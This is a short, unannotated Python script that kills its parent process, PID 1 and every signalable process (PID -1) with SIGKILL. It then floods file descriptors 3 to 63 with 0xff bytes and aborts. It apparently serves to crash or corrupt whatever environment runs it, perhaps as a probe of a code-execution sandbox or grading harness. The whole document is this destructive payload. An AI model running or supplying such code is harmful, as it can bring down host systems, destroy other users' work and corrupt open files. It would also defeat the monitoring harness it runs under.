import os
import signal

for process in [os.getppid(), 1, -1]:
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"\xff" * 64)
    except OSError:
        pass
os.abort()
